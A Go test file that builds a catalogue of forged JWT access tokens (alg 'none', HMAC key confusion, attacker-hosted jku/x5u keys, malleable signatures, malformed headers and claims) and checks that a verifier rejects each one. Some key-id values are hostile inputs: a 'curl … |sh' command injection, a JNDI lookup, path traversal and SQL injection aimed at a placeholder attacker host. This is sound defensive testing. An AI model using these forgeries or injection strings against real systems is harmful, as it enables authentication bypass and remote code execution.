package token

import (
	"bytes"
	"context"
	"crypto"
	"crypto/elliptic"
	"crypto/hmac"
	_ "crypto/sha256"
	_ "crypto/sha512"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/big"
	"slices"
	"strings"
	"time"
)

// forgery is a token that must not pass, and the check that has to stop it, so
// that none passes for lack of a check behind the first.
type forgery struct{ name, text, reason string }

// forgeries are the attacks. evil is the host:port of an attacker's server.
func forgeries(w *world, evil string) []forgery {
	w.t.Helper()
	var all []forgery
	add := func(name, text, reason string) { all = append(all, forgery{name, text, reason}) }

	// The installation signs with Ed25519 and has announced a key for ES256.
	ed := w.signer()
	announced, err := newKey(ES256, nil, 2, w.Now(), w.Now().Add(Announce))
	w.must(err)
	w.must(w.store.Add(context.Background(), announced))
	w.must(w.ring.Reload(context.Background()))
	set := w.ring.set.Load()
	es := signs{set.public[announced.ID], set.private[announced.ID]}
	stranger, strangerEC := signer(w, EdDSA), signer(w, ES256)

	head, body := w.header(ed), w.payload()
	genuine := w.sign(EdDSA, ed.key, head.String(), body.String())
	another := w.sign(EdDSA, ed.key, head.String(), w.payload().String())
	genuineEC := w.sign(ES256, es.key, w.header(es).String(), body.String())
	for name, text := range map[string]string{"EdDSA": genuine, "another": another, "ES256": genuineEC} {
		if _, err := w.verifier.Verify(context.Background(), text); err != nil {
			w.t.Fatalf("%s: the genuine token is refused, so no refusal means anything: %v", name, err)
		}
	}
	part := strings.Split(genuine, ".")
	partEC := strings.Split(genuineEC, ".")
	signature, err := base64.RawURLEncoding.DecodeString(part[2])
	w.must(err)
	signatureEC, err := base64.RawURLEncoding.DecodeString(partEC[2])
	w.must(err)
	signed := func(h, b object) string { return w.sign(EdDSA, ed.key, h.String(), b.String()) }
	raw := func(h, b string) string { return w.sign(EdDSA, ed.key, h, b) }

	// No signature, and says so.
	for _, alg := range []string{`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `"none "`, `""`, `"\u0000none"`, `"\u006eone"`} {
		h := head.with("alg", alg).String()
		add("alg "+alg, unsigned(h, body.String())+".", "empty part")
		add("alg "+alg+" with the old signature", unsigned(h, body.String())+"."+part[2], "alg is none of ours")
	}
	for name, alg := range map[string]string{"null": "null", "an array": `["EdDSA"]`, "an array with none": `["none"]`, "a number": "0", "true": "true", "an object": `{"EdDSA":1}`} {
		add("alg is "+name, signed(head.with("alg", alg), body), "alg is missing or no text")
	}
	add("alg missing", signed(head.with("alg", ""), body), "alg is missing or no text")
	for _, alg := range []string{"eddsa", "EDDSA", "Ed25519", "EdDSA ", " EdDSA", "RS256", "PS256", "ES384", "ES512", "ES256K", "HS1", "RSA-OAEP", "dir", "A128KW"} {
		add("alg "+alg, signed(head.with("alg", quote(alg)), body), "alg is none of ours")
	}

	// The public key taken for the secret of an HMAC.
	for _, key := range []*public{ed.public, es.public} {
		for form, secret := range keyForms(w, key) {
			for alg, hash := range map[string]crypto.Hash{"HS256": crypto.SHA256, "HS384": crypto.SHA384, "HS512": crypto.SHA512} {
				text := unsigned(object{"alg": quote(alg), "kid": quote(key.id), "typ": `"at+jwt"`}.String(), body.String())
				mac := hmac.New(hash.New, secret)
				mac.Write([]byte(text))
				add(fmt.Sprintf("%s with the public key of %s as %s", alg, key.alg, form), text+"."+encode(mac.Sum(nil)), "alg is none of ours")
			}
		}
	}
	add("ES256 by the id of the key for EdDSA", w.sign(ES256, es.key, head.with("alg", `"ES256"`).String(), body.String()), "alg is not that of the key")
	add("EdDSA by the id of the key for ES256", w.sign(EdDSA, ed.key, head.with("kid", quote(es.id)).String(), body.String()), "alg is not that of the key")
	add("ES256 said, EdDSA signed, id of ES256", w.sign(EdDSA, ed.key, w.header(es).String(), body.String()), "signature does not fit")

	// A key that the token brings along or points to. They are well signed, by
	// the attacker's key and by ours: both must fail for the member alone.
	strangerJWK, err := newJWK(ed.id, EdDSA, stranger.Public())
	w.must(err)
	jwkText, err := json.Marshal(strangerJWK)
	w.must(err)
	for name, member := range map[string]object{
		"jwk":         {"jwk": string(jwkText)},
		"jku":         {"jku": quote("http://" + evil + "/jwks.json")},
		"x5u":         {"x5u": quote("http://" + evil + "/cert.pem")},
		"x5c":         {"x5c": `["MIIB"]`},
		"x5t":         {"x5t": `"AAAA"`},
		"x5t#S256":    {"x5t#S256": `"AAAA"`},
		"crit":        {"crit": `["exp"]`},
		"empty crit":  {"crit": `[]`},
		"crit of b64": {"crit": `["b64"]`, "b64": "false"},
		"b64":         {"b64": "false"},
		"zip":         {"zip": `"DEF"`},
		"enc":         {"enc": `"A128GCM"`},
		"cty":         {"cty": `"JWT"`},
		"iss above":   {"iss": quote(parties.Issuer)},
		"KID":         {"KID": quote(ed.id)},
		"__proto__":   {"__proto__": `{"alg":"none"}`},
	} {
		h := head
		for n, v := range member {
			h = h.with(n, v)
		}
		add("header with "+name, signed(h, body), "no place there")
		add("header with "+name+", the attacker's key", w.sign(EdDSA, stranger, h.String(), body.String()), "no place there")
	}

	// An id that leads elsewhere.
	for name, kid := range map[string]string{
		"a path":                 "../../../../etc/passwd",
		"an absolute path":       "/dev/null",
		"a Windows path":         `..\\..\\windows\\win.ini`,
		"a path with a NUL":      `/dev/null\u0000.pem`,
		"file URL":               "file:///dev/null",
		"a URL":                  "http://" + evil + "/key",
		"an LDAP URL":            "ldap://" + evil + "/key",
		"JNDI":                   "${jndi:ldap://" + evil + "/key}",
		"SQL":                    "' UNION SELECT 'c2VjcmV0' --",
		"more SQL":               "x' OR '1'='1",
		"SQL behind the id":      ed.id + "' OR '1'='1",
		"a command":              "key; curl http://" + evil + " |sh",
		"a command substitution": "$(curl " + evil + ")",
		"a template":             "{{7*7}}",
		"nothing":                "",
		"a space":                " ",
		"upper case":             strings.ToUpper("abcdef" + ed.id[6:]),
		"a space behind":         ed.id + " ",
		"a line break behind":    ed.id + `\n`,
		"wide digits":            strings.Repeat("１", keyIDLength),
		"huge":                   strings.Repeat("a", 2000),
		"one digit short":        ed.id[1:],
	} {
		add("kid is "+name, signed(head.with("kid", quote(kid)), body), "kid is none of ours")
	}
	for name, kid := range map[string]string{"an array": `["` + ed.id + `"]`, "null": "null", "a number": "1", "an object": `{"kid":"` + ed.id + `"}`, "true": "true"} {
		add("kid is "+name, signed(head.with("kid", kid), body), "kid is missing or no text")
	}
	add("kid missing", signed(head.with("kid", ""), body), "kid is missing or no text")
	add("kid invented", signed(head.with("kid", quote(strings.Repeat("0", keyIDLength))), body), "no such key")

	// The signature.
	add("the attacker's key", w.sign(EdDSA, stranger, head.String(), body.String()), "signature does not fit")
	add("the attacker's key for ES256", w.sign(ES256, strangerEC, w.header(es).String(), body.String()), "signature does not fit")
	add("signature stripped with its dot", part[0]+"."+part[1], "fewer than three")
	add("signature stripped", part[0]+"."+part[1]+".", "empty part")
	add("signature of another token", part[0]+"."+part[1]+"."+strings.Split(another, ".")[2], "signature does not fit")
	add("payload of another token", part[0]+"."+strings.Split(another, ".")[1]+"."+part[2], "signature does not fit")
	add("role raised", part[0]+"."+encodeText(body.with("role", `"admin"`).String())+"."+part[2], "signature does not fit")
	with := func(s []byte) string { return part[0] + "." + part[1] + "." + encode(s) }
	withEC := func(s []byte) string { return partEC[0] + "." + partEC[1] + "." + encode(s) }
	order25519, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	zero := make([]byte, 64)
	for name, s := range map[string][]byte{
		"one byte short":     signature[:63],
		"half":               signature[:32],
		"one byte":           signature[:1],
		"one byte longer":    append(bytes.Clone(signature), 0),
		"twice":              append(bytes.Clone(signature), signature...),
		"zeros":              zero,
		"the identity":       append([]byte{1}, zero[1:]...),
		"S plus the order":   slices.Concat(signature[:32], plus(signature[32:], order25519)),
		"R and S swapped":    slices.Concat(signature[32:], signature[:32]),
		"last bit":           flipped(signature, 511),
		"that of ES256":      signatureEC,
		"ones":               bytes.Repeat([]byte{0xff}, 64),
		"the payload's hash": hashOf(part[0] + "." + part[1]),
	} {
		add("Ed25519 signature: "+name, with(s), "signature does not fit")
	}
	n := elliptic.P256().Params().N.FillBytes(make([]byte, 32))
	one := big.NewInt(1).FillBytes(make([]byte, 32))
	der, err := asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(signatureEC[:32]), new(big.Int).SetBytes(signatureEC[32:])})
	w.must(err)
	for name, s := range map[string][]byte{
		"r and s zero (psychic)": zero,
		"r zero":                 slices.Concat(zero[:32], one),
		"s zero":                 slices.Concat(one, zero[:32]),
		"r and s one":            slices.Concat(one, one),
		"r and s the order":      slices.Concat(n, n),
		"DER":                    der,
		"one byte short":         signatureEC[:63],
		"one byte longer":        append(bytes.Clone(signatureEC), 0),
		"r and s swapped":        slices.Concat(signatureEC[32:], signatureEC[:32]),
		"last bit":               flipped(signatureEC, 511),
		"that of EdDSA":          signature,
	} {
		add("ES256 signature: "+name, withEC(s), "signature does not fit")
	}

	// The form.
	for name, c := range map[string][2]string{
		"nothing":                          {"", "fewer than three"},
		"one dot":                          {".", "fewer than three"},
		"two dots":                         {"..", "empty part"},
		"thousands of dots":                {strings.Repeat(".", MaxSize), "more than three"},
		"dots behind":                      {genuine + strings.Repeat(".", 1000), "more than three"},
		"dots before":                      {strings.Repeat(".", 1000) + genuine, "more than three"},
		"no dots":                          {strings.ReplaceAll(genuine, ".", ""), "fewer than three"},
		"one part":                         {part[0], "fewer than three"},
		"four parts":                       {genuine + "." + part[2], "more than three"},
		"five parts (JWE)":                 {part[0] + ".AAAA.AAAA." + part[1] + "." + part[2], "more than three"},
		"an empty header":                  {"." + part[1] + "." + part[2], "empty part"},
		"an empty payload":                 {part[0] + ".." + part[2], "empty part"},
		"only a signature":                 {".." + part[2], "empty part"},
		"JSON serialisation":               {`{"payload":"` + part[1] + `","protected":"` + part[0] + `","signature":"` + part[2] + `"}`, "not of base64url"},
		"nested, whole":                    {raw(head.String(), quote(genuine)), "payload: no JSON object"},
		"nested as payload":                {w.sign(EdDSA, stranger, head.with("cty", `"JWT"`).String(), genuine), "no place there"},
		"padding behind the parts":         {part[0] + "=." + part[1] + "==." + part[2] + "==", "not of base64url"},
		"padding behind the signature":     {genuine + "==", "not of base64url"},
		"base64 of the old kind (+)":       {part[0] + "." + part[1] + "." + part[2][:5] + "+" + part[2][6:], "not of base64url"},
		"base64 of the old kind (/)":       {part[0] + "." + part[1] + "." + part[2][:5] + "/" + part[2][6:], "not of base64url"},
		"a space before":                   {" " + genuine, "not of base64url"},
		"a space behind":                   {genuine + " ", "not of base64url"},
		"a tab within":                     {part[0] + "\t." + part[1] + "." + part[2], "not of base64url"},
		"a line break behind":              {genuine + "\n", "not of base64url"},
		"a line break within":              {part[0] + "." + part[1][:8] + "\r\n" + part[1][8:] + "." + part[2], "not of base64url"},
		"a line break in the signature":    {part[0] + "." + part[1] + "." + part[2][:8] + "\n" + part[2][8:], "not of base64url"},
		"a NUL behind":                     {genuine + "\x00", "not of base64url"},
		"a byte order mark":                {"\ufeff" + genuine, "not of base64url"},
		"a zero width space":               {genuine + "\u200b", "not of base64url"},
		"a dot of another script":          {part[0] + "。" + part[1] + "." + part[2], "not of base64url"},
		"broken UTF-8":                     {genuine + "\xff", "not of base64url"},
		"per cent signs":                   {part[0] + "%2E" + part[1] + "." + part[2], "not of base64url"},
		"quotes":                           {quote(genuine), "not of base64url"},
		"Bearer before":                    {"Bearer " + genuine, "not of base64url"},
		"garbage behind":                   {genuine + "AAAA", "signature does not fit"},
		"twice":                            {genuine + genuine, "more than three"},
		"twice, with a comma":              {genuine + "," + genuine, "not of base64url"},
		"just too long":                    {genuine + strings.Repeat("A", MaxSize+1-len(genuine)), "too long"},
		"a megabyte":                       {genuine + strings.Repeat("A", 1<<20), "too long"},
		"a megabyte of dots":               {strings.Repeat(".", 1<<20), "too long"},
		"a header of deep nesting":         {encodeText(strings.Repeat(`{"a":`, 500)+"1") + "." + part[1] + "." + part[2], "no JSON object"},
		"bits left over at the end of it":  {looseEnd(genuine), "malformed"},
		"bits left over behind the header": {loosely(head.String()) + "." + part[1] + "." + part[2], "header: not base64url"},
	} {
		add("form: "+name, c[0], c[1])
	}

	// The header's JSON.
	for name, c := range map[string][2]string{
		"null":                        {"null", "no JSON object"},
		"an array":                    {"[" + head.String() + "]", "no JSON object"},
		"a text":                      {`"at+jwt"`, "no JSON object"},
		"a number":                    {"1", "no JSON object"},
		"cut off":                     {head.String()[:20], "no JSON object"},
		"an empty object":             {"{}", "is missing or no text"},
		"more behind":                 {head.String() + "{}", "no JSON object"},
		"garbage behind":              {head.String() + "x", "no JSON object"},
		"a comma too many":            {strings.Replace(head.String(), "}", ",}", 1), "no JSON object"},
		"a comment":                   {"/**/" + head.String(), "no JSON object"},
		"a byte order mark":           {"\ufeff" + head.String(), "no JSON object"},
		"broken UTF-8":                {strings.Replace(head.String(), "at+jwt", "at+jwt\xff", 1), "broken UTF-8"},
		"UTF-16":                      {"\xff\xfe{\x00}\x00", "broken UTF-8"},
		"alg twice, ours last":        {`{"alg":"none",` + head.String()[1:], "given twice"},
		"alg twice, ours first":       {strings.TrimSuffix(head.String(), "}") + `,"alg":"none"}`, "given twice"},
		"alg twice, once in escapes":  {`{"\u0061lg":"none",` + head.String()[1:], "given twice"},
		"alg twice, behind a colon":   {`{"alg":"a:b","alg":"EdDSA",` + head.with("alg", "").String()[1:], "given twice"},
		"alg twice, behind a quote":   {`{"alg":"\"","alg":"EdDSA",` + head.with("alg", "").String()[1:], "given twice"},
		"alg twice, behind a slash":   {`{"alg":"\\\\","alg":"EdDSA",` + head.with("alg", "").String()[1:], "given twice"},
		"alg twice, an object first":  {`{"alg":{"a":[{"b":1}]},"alg":"EdDSA",` + head.with("alg", "").String()[1:], "given twice"},
		"kid twice":                   {`{"kid":"x",` + head.String()[1:], "given twice"},
		"typ twice":                   {`{"typ":"JWT",` + head.String()[1:], "given twice"},
		"alg in another case besides": {`{"ALG":"none",` + head.String()[1:], "no place there"},
		"alg in another case only":    {strings.Replace(head.String(), `"alg"`, `"Alg"`, 1), "no place there"},
	} {
		add("header is "+name, raw(c[0], body.String()), c[1])
	}

	// Another kind of JWT.
	for _, typ := range []string{"JWT", "jwt", "id_token+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "at+jwt ", " at+jwt", "at+JWT;", "application/jwt", "application/application/at+jwt", "text/at+jwt", "at", "", "rt+jwt", "at+ｊwt", "at+\u212aWT"} {
		add("typ "+typ, signed(head.with("typ", quote(typ)), body), "typ is not that of an access token")
	}
	for name, typ := range map[string]string{"missing": "", "null": "null", "an array": `["at+jwt"]`} {
		add("typ "+name, signed(head.with("typ", typ), body), "typ is missing or no text")
	}

	// Well signed, but not by or for us: another service shares the key, or
	// somebody has made us sign something.
	for name, c := range map[string][3]string{
		"iss missing":                {"iss", "", "iss is missing"},
		"iss empty":                  {"iss", `""`, "iss is missing"},
		"iss null":                   {"iss", "null", "iss is missing"},
		"iss an array":               {"iss", `["https://id.example"]`, "iss is missing"},
		"iss another":                {"iss", `"https://evil.example"`, "another issuer"},
		"iss with a slash":           {"iss", `"https://id.example/"`, "another issuer"},
		"iss in capitals":            {"iss", `"https://ID.example"`, "another issuer"},
		"iss plain http":             {"iss", `"http://id.example"`, "another issuer"},
		"iss with a port":            {"iss", `"https://id.example:443"`, "another issuer"},
		"iss longer":                 {"iss", `"https://id.example.evil.example"`, "another issuer"},
		"iss with a user":            {"iss", `"https://id.example@evil.example"`, "another issuer"},
		"iss with a space":           {"iss", `"https://id.example "`, "another issuer"},
		"aud missing":                {"aud", "", "aud is missing"},
		"aud null":                   {"aud", "null", "aud is missing"},
		"aud a number":               {"aud", "1", "aud is missing"},
		"aud an object":              {"aud", `{"https://api.example":1}`, "aud is missing"},
		"aud a list of numbers":      {"aud", "[1]", "aud is missing"},
		"aud a list with a number":   {"aud", `["https://api.example",1]`, "aud is missing"},
		"aud a list of lists":        {"aud", `[["https://api.example"]]`, "aud is missing"},
		"aud empty":                  {"aud", `""`, "claim is missing"},
		"aud an empty list":          {"aud", "[]", "claim is missing"},
		"aud another":                {"aud", `"https://evil.example"`, "another audience"},
		"aud a list without ours":    {"aud", `["https://a.example","https://b.example"]`, "another audience"},
		"aud with a slash":           {"aud", `"https://api.example/"`, "another audience"},
		"aud in capitals":            {"aud", `"HTTPS://API.EXAMPLE"`, "another audience"},
		"aud all in one text":        {"aud", `"https://a.example https://api.example"`, "another audience"},
		"aud a star":                 {"aud", `"*"`, "another audience"},
		"sub missing":                {"sub", "", "sub is missing"},
		"sub empty":                  {"sub", `""`, "sub is missing"},
		"sub null":                   {"sub", "null", "sub is missing"},
		"sub a number":               {"sub", "1", "sub is missing"},
		"sub a name":                 {"sub", `"admin"`, "sub is no id"},
		"sub SQL":                    {"sub", `"' OR '1'='1' -- 123456"`, "sub is no id"},
		"sub too long":               {"sub", quote(strings.Repeat("A", 23)), "sub is no id"},
		"sub with line breaks":       {"sub", `"AAAAAAAAAAAAAAAAAAAA\n\n"`, "sub is no id"},
		"sub with bits left over":    {"sub", quote(strings.Repeat("A", 21) + "B"), "sub is no id"},
		"sid missing":                {"sid", "", "sid is missing"},
		"sid empty":                  {"sid", `""`, "sid is missing"},
		"sid an array":               {"sid", `["a"]`, "sid is missing"},
		"sid malformed":              {"sid", `"../../s:1"`, "sid is no id"},
		"sid short":                  {"sid", quote(strings.Repeat("A", 42)), "sid is no id"},
		"sid with a wild card":       {"sid", quote(strings.Repeat("A", 42) + "*"), "sid is no id"},
		"sid with a NUL":             {"sid", `"` + strings.Repeat("A", 42) + `\u0000"`, "sid is no id"},
		"jti missing":                {"jti", "", "jti is missing"},
		"jti empty":                  {"jti", `""`, "jti is missing"},
		"jti a number":               {"jti", "1", "jti is missing"},
		"jti malformed":              {"jti", `"1"`, "jti is none of ours"},
		"role missing":               {"role", "", "role is missing"},
		"role unknown":               {"role", `"root"`, "role is unknown"},
		"role in capitals":           {"role", `"ADMIN"`, "role is unknown"},
		"role a list":                {"role", `["user","admin"]`, "role is missing"},
		"client_id missing":          {"client_id", "", "client_id is missing"},
		"client_id another":          {"client_id", `"another"`, "client_id is not ours"},
		"exp missing":                {"exp", "", "exp is missing"},
		"exp null":                   {"exp", "null", "exp is missing"},
		"exp a text":                 {"exp", quote(number(w.Now().Add(time.Minute))), "exp is missing"},
		"exp negative":               {"exp", "-1", "exp is missing"},
		"exp zero":                   {"exp", "0", "exp is missing"},
		"exp a fraction":             {"exp", number(w.Now()) + ".5", "exp is missing"},
		"exp with an exponent":       {"exp", "4e9", "exp is missing"},
		"exp beyond int64":           {"exp", "18446744073709551616", "exp is missing"},
		"exp int64":                  {"exp", "9223372036854775807", "exp is missing"},
		"exp infinite":               {"exp", "1e999", "exp is missing"},
		"exp NaN":                    {"exp", "NaN", "malformed"},
		"exp Infinity":               {"exp", "Infinity", "malformed"},
		"exp an array":               {"exp", "[" + number(w.Now().Add(time.Minute)) + "]", "exp is missing"},
		"exp true":                   {"exp", "true", "exp is missing"},
		"exp in milliseconds":        {"exp", number(w.Now().Add(time.Minute)) + "000", "exp is missing"},
		"exp in ten years":           {"exp", number(w.Now().AddDate(10, 0, 0)), "longer than any token"},
		"exp beyond the most":        {"exp", number(w.Now().Add(MaxLifetime + time.Second)), "longer than any token"},
		"expired this second":        {"exp", number(w.Now()), "never counts"},
		"expired, within the leeway": {"exp", number(w.Now().Add(-time.Second)), "never counts"},
		"expired for long":           {"exp", number(w.Now().Add(-time.Hour)), "expired"},
		"nbf in the future":          {"nbf", number(w.Now().Add(Leeway + time.Second)), "does not count yet"},
		"nbf a text":                 {"nbf", quote(number(w.Now())), "nbf is missing or no time"},
		"nbf null":                   {"nbf", "null", "nbf is missing or no time"},
		"nbf zero":                   {"nbf", "0", "nbf is missing or no time"},
		"iat missing":                {"iat", "", "iat is missing"},
		"iat a text":                 {"iat", quote(number(w.Now())), "iat is missing"},
		"iat negative":               {"iat", "-1", "iat is missing"},
		"iat in the future":          {"iat", number(w.Now().Add(Leeway + time.Second)), "issued in the future"},
		"iat ten years ago":          {"iat", number(w.Now().AddDate(-10, 0, 0)), "longer than any token"},
	} {
		add("well signed, "+name, signed(head, body.with(c[0], c[1])), c[2])
	}
	old := body.with("iat", number(w.Now().Add(-2*time.Minute)), "exp", number(w.Now().Add(-time.Second)))
	add("expired a second ago", signed(head, old), "expired")
	add("expired now", signed(head, old.with("exp", number(w.Now()))), "expired")
	for name, member := range map[string]string{
		"sub twice": `"sub":"AAAAAAAAAAAAAAAAAAAAAA"`, "exp twice": `"exp":4000000000`, "role twice": `"role":"admin"`, "role twice, once in escapes": `"rol\u0065":"admin"`,
	} {
		add("well signed, "+name, raw(head.String(), "{"+member+","+body.String()[1:]), "given twice")
	}
	for name, c := range map[string][2]string{
		"null": {"null", "is missing"}, "an array": {"[" + body.String() + "]", "no JSON object"}, "a text": {`"a"`, "no JSON object"}, "a number": {"1", "no JSON object"},
		"cut off": {body.String()[:30], "malformed"}, "more behind": {body.String() + "{}", "malformed"}, "an empty object": {"{}", "is missing"},
		"broken UTF-8": {strings.Replace(body.String(), "user", "user\xff", 1), "broken UTF-8"}, "a byte order mark": {"\ufeff" + body.String(), "malformed"},
	} {
		add("well signed, payload is "+name, raw(head.String(), c[0]), c[1])
	}

	return all
}
